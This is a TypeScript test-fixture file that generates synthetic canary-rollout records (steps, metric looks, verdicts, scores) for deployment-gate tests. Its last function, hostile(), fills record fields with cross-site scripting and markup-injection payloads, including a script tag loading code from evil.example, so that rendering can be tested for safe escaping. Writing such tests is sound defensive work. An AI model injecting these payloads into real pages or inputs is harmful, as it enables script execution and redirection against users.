import type { GateResult, Look, Metric, Reading } from '../../src/gates/types.ts'
import { judge } from '../../src/gates/verdict.ts'
import { enter, newRecord, type RolloutRecord, type StepScore } from '../../src/rollout/record.ts'
import { planOf } from '../rollout/records.ts'

/** Whole rollouts as runs leave them, with looks that the gates can judge; made alike each time. */

const START = Date.parse('2026-11-21T14:00:00.000Z') / 1000
const INTERVAL = 10
const METRICS: Metric[] = [
  { name: 'errors', kind: 'errors', required: true, mode: 'sequential', ratio: 1.1 },
  { name: 'p95', kind: 'slow', required: false, mode: 'sequential', bound: 0.5, share: 0.05 },
  { name: 'requests', kind: 'requests', required: false, mode: 'sequential', ratio: 0.5, maxBurst: 10 },
  { name: 'checkout', kind: 'errors', required: false, mode: 'sequential', ratio: 1.5, dry: true },
  { name: 'p99', kind: 'slow', required: false, mode: 'threshold', bound: 1, share: 0.01 },
  { name: 'cpu', kind: 'cpu', required: false, mode: 'threshold', bound: 0.8 },
]

/** One look's readings: requests in all at the weight, and how many of them fail in each arm. */
export interface Moment {
  weight: number
  requests?: number
  canaryErrors?: number
  stableErrors?: number
  gap?: 'absent' | 'zero' | 'not-a-number' | 'unreachable'
}

export interface Scene {
  steps: number[]
  moments: Moment[]
  /** How it ends. */
  end: 'PROMOTED' | 'ROLLED_BACK' | 'CANARY_WAITING' | 'CANARY_EVALUATING'
  metrics?: Metric[]
  reason?: string
}

export function play({ steps, moments, end, metrics = METRICS, reason = 'the gates said so' }: Scene): RolloutRecord {
  const gates = {
    metrics,
    notMeasured: [{ name: 'memory', why: 'the pods have no memory limit' }],
    alpha: 0.01,
    beta: 0.05,
    harmBudget: 0.0025,
    before: Object.fromEntries(metrics.map(({ name }) => [name, { m: 2000, y: 10 }])),
    stages: steps.length - 1,
  }
  const plan = planOf({ steps, gates, intervalSeconds: INTERVAL })
  const actor = { run: 'octo/shop run 42.1 deploy', name: 'mona', url: 'https://github.com/octo/shop/actions/runs/42' }
  const record = newRecord('shop-20261121-140000-k3f9', 'rollout', plan, actor, 7, at(0))
  let now = 4
  enter(record, 'CANARY', '2 canary pods are ready', at(now), { weight: steps[0] as number })
  for (const [step, weight] of steps.entries()) {
    const own = moments.filter((moment) => moment.weight === weight)
    if (own.length === 0) break
    now += 1
    enter(record, 'CANARY_EVALUATING', `${weight} % in force`, at(now), { weight })
    record.step = step
    record.weight = weight
    for (const moment of own) {
      record.looks.push(lookAt(moment, step, now, metrics, record.looks.length))
      now += INTERVAL
    }
    now += 2
    const { verdict, reason: why, gates: results, lnEvidence } = judge(gates, record.looks, { index: step, weight })
    record.verdicts.push({
      step,
      weight,
      at: at(now).toISOString(),
      verdict,
      reason: why,
      gates: rounded(results),
      lnEvidence,
      observedWeight: weight,
    })
    const next = steps[step + 1]
    const more = moments.some((moment) => moment.weight === next)
    if (more) enter(record, 'CANARY', `${verdict} at ${weight} %: ${why}`, at(now), { weight: next as number })
  }
  if (end === 'PROMOTED') {
    enter(record, 'PROMOTING', 'every step before 100 has passed', at(now))
    enter(record, 'PROMOTED', 'stable runs the new version', at(now + 25))
  } else if (end === 'ROLLED_BACK') {
    enter(record, 'ROLLING_BACK', reason, at(now), { weight: 0 })
    enter(record, 'ROLLED_BACK', reason, at(now + 9))
    record.outcome = { requests: 1200, harmed: 31, lowerBound: false }
  } else if (end === 'CANARY_WAITING') {
    enter(record, 'CANARY_WAITING', reason, at(now), { weight: record.weight })
  }
  record.updatedAt = at(now + 25).toISOString()
  return record
}

function at(seconds: number): Date {
  return new Date((START + seconds) * 1000)
}

/** As they lie in the record. */
function rounded(results: GateResult[]): GateResult[] {
  return JSON.parse(JSON.stringify(results))
}

function lookAt(moment: Moment, step: number, from: number, metrics: readonly Metric[], index: number): Look {
  const readings = Object.fromEntries(metrics.map((metric) => [metric.name, readingOf(metric, moment, index)]))
  return { from: START + from, to: START + from + INTERVAL, step, weight: moment.weight, readings }
}

function readingOf({ kind }: Metric, moment: Moment, index: number): Reading {
  const { weight, requests = 2000, canaryErrors = 0, stableErrors = 0, gap } = moment
  if (gap !== undefined) return { gap, detail: 'up{pod="shop-canary"} is absent' }
  const n = Math.round((requests * weight) / 100) + (index % 3) - 1
  const m = requests - n
  switch (kind) {
    case 'cpu':
    case 'memory':
      return { canary: 0.45 + 0.2 * Math.sin(index / 3), baseline: 0.5 + 0.05 * Math.cos(index) }
    case 'requests':
      return { n, x: n, m, y: m }
    case 'slow':
      return { n, x: Math.floor(n / 250), m, y: Math.floor(m / 250) }
    case 'errors':
      return { n, x: canaryErrors, m, y: stableErrors }
  }
}

const times = (count: number, moment: Moment): Moment[] => Array.from({ length: count }, () => moment)

/** Two good steps, then a version that fails once it has half of the traffic. */
export const lateRegression = (): RolloutRecord =>
  play({
    steps: [5, 25, 50, 100],
    moments: [
      ...times(4, { weight: 5, stableErrors: 9 }),
      { weight: 5, canaryErrors: 1, stableErrors: 12 },
      ...times(2, { weight: 25, canaryErrors: 2, stableErrors: 8 }),
      { weight: 25, gap: 'unreachable' },
      { weight: 25, gap: 'unreachable' },
      ...times(5, { weight: 25, canaryErrors: 3, stableErrors: 9 }),
      ...times(3, { weight: 50, canaryErrors: 5, stableErrors: 5 }),
      { weight: 50, canaryErrors: 11, stableErrors: 5 },
      { weight: 50, canaryErrors: 19, stableErrors: 4 },
      { weight: 50, canaryErrors: 24, stableErrors: 6 },
      { weight: 50, canaryErrors: 22, stableErrors: 5 },
    ],
    end: 'ROLLED_BACK',
    reason: 'errors rose at 50 %',
  })

export const good = (): RolloutRecord =>
  play({
    steps: [5, 25, 50, 100],
    moments: [5, 25, 50].flatMap((weight) =>
      times(6, { weight, canaryErrors: Math.round(weight / 5), stableErrors: 20 - Math.round(weight / 5) }),
    ),
    end: 'PROMOTED',
  })

export const oneLook = (): RolloutRecord =>
  play({ steps: [5, 100], moments: [{ weight: 5, stableErrors: 10 }], end: 'CANARY_EVALUATING' })

export const onlyGaps = (): RolloutRecord =>
  play({
    steps: [5, 25, 100],
    moments: times(4, { weight: 5, gap: 'unreachable' }),
    end: 'CANARY_WAITING',
    reason: 'inconclusive at 5 %',
  })

/** No arm had an error; neither bound of the ratio is known. */
export const noErrors = (): RolloutRecord =>
  play({ steps: [10, 100], moments: times(5, { weight: 10 }), end: 'PROMOTED' })

/** Only the canary fails: there is no upper bound. */
export const noBaselineErrors = (): RolloutRecord =>
  play({ steps: [10, 100], moments: times(3, { weight: 10, canaryErrors: 2 }), end: 'ROLLED_BACK' })

/** Many steps and looks, close together. */
export const crowded = (): RolloutRecord => {
  const steps = [1, 2, 3, 5, 8, 13, 21, 34, 55, 80, 100]
  return play({
    steps,
    moments: steps
      .slice(0, -1)
      .flatMap((weight) =>
        times(15, { weight, canaryErrors: Math.floor(weight / 10), stableErrors: 10 - Math.floor(weight / 10) }),
      ),
    end: 'PROMOTED',
  })
}

/** What score-confidence wrote down where no file told the coverage. */
export function stepScore(): StepScore {
  return {
    at: at(60).toISOString(),
    step: 1,
    score: 76,
    low: 71,
    high: 81,
    decision: 'manual-review',
    vetoed: false,
    factors: { safety: 100, health: 50, blast: 90, history: 80, complexity: 70 },
    reasons: [
      '71 at least does not reach 80',
      'errors are not proven yet: -12.5',
      'coverage missing (no file): up to -10',
    ],
    weights: { safety: 300, health: 250, blast: 150, history: 100, complexity: 100, coverage: 100 },
    thresholds: { promote: 80, rollback: 60 },
  }
}

/** Every text that somebody else can write is an attack on a page or a summary. */
export function hostile(): RolloutRecord {
  const attack = '</title></script><script>alert(1)</script>```\n%%{init}%%\nclick A "javascript:alert(1)"\u202e'
  const metrics: Metric[] = [
    { name: 'errors', kind: 'errors', required: true, mode: 'sequential', ratio: 1.1 },
    {
      name: `${attack}"><b onclick=alert(3)>`,
      kind: 'slow',
      required: false,
      mode: 'sequential',
      bound: 0.5,
      share: 0.05,
    },
  ]
  const record = play({
    steps: [5, 100],
    metrics,
    moments: [...times(2, { weight: 5, canaryErrors: 4 }), { weight: 5, gap: 'unreachable' }],
    end: 'ROLLED_BACK',
    reason: 'Rollback? <img src=x onerror="alert(1)">',
  })
  record.plan.service = `<svg onload=alert(1)>${attack}`
  record.plan.from = 'ghcr.io/<svg onload=alert(2)>'
  record.plan.namespace = '"><script src=//evil.example/x.js></script>'
  record.plan.deployment = '<style>*{display:none}</style>'
  record.actors = [
    { name: '<a href="javascript:alert(1)">mona</a>', run: attack, url: 'javascript:alert(document.domain)' },
    { name: 'b', run: 'c', url: 'https://evil.example/"onmouseover="alert(1)' },
  ]
  record.approvals = [{ step: 0, by: '<meta http-equiv=refresh content="0;url=//evil.example">', at: 'now' }]
  record.scores = [{ ...stepScore(), reasons: [attack, '<base href=//evil.example>'] }]
  for (const look of record.looks) {
    for (const reading of Object.values(look.readings)) if ('gap' in reading) reading.detail = attack
  }
  return record
}
